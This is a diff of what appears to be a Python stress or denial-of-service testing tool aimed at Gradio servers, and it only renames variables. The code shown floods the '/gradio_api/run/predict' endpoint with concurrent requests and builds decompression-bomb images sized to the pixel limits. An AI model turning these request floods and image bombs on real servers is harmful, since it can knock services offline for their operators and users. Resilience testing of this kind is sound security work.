@@ -202,8 +202,8 @@ async def addresses(target: Target, args: argparse.Namespace, answers: Answers) 
 
         async def one(number: int) -> int:
             body = {"data": [None, [file]], "fn_index": number % count, "session_hash": secrets.token_hex(5)}
-            given = cookies if number % 2 else None
-            async with httpx.AsyncClient(base_url=target.url, timeout=20, cookies=given) as client:
+            sent = cookies if number % 2 else None
+            async with httpx.AsyncClient(base_url=target.url, timeout=20, cookies=sent) as client:
                 return (await client.post("/gradio_api/run/predict", json=body)).status_code
 
         await many(args, answers, one)
@@ -220,15 +220,15 @@ async def _count(trap: socket.socket, answers: Answers) -> None:
 
 def bombs() -> list[tuple[str, bytes]]:
     """Small files that unpack to as much as the limits of pixels let through."""
-    made = []
+    files = []
     for mode, pixels in (("RGBA", 59e6), ("I;16", 59e6), ("P", 59e6), ("RGBA", 23e6), ("RGB", 59e6)):
         side = int(pixels**0.5)
         form = "JPEG" if mode == "RGB" else "PNG"
         image = Image.new(mode, (side, side))
         file = io.BytesIO()
         image.save(file, form)
-        made.append((f"{mode}-{side}.{form.lower()}", file.getvalue()))
-    return made
+        files.append((f"{mode}-{side}.{form.lower()}", file.getvalue()))
+    return files
 
 
 async def unpacking(target: Target, args: argparse.Namespace, answers: Answers) -> None:
